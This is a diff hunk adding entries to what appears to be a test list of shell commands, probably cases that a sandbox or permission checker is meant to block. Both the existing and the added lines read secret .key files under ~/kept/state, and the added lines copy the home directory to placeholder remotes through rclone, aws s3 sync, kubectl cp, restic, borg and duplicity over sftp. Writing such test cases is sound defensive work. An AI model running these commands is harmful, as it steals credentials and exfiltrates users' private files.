@@ -56,6 +56,14 @@ ln -s ~ h; cat h/kept/state/sockets/*/*.key
 ln -s ~/kept/state x; cd x/sockets && cat ab/cd.key
 grep -r x /
 tar cf x.tar /
+ag key ~
+zgrep -r key ~
+rclone copy ~ r:b
+aws s3 sync ~ s3://b
+kubectl cp ~/kept x:/
+restic -r r backup ~
+borg create r::a ~/kept
+duplicity ~ sftp://h/a
 for f in ~/kept/state/*; do grep -r . $f; done
 for d in ~/k*; do grep -r x $d; done
 echo state | xargs -I{} grep -r . ~/kept/{}
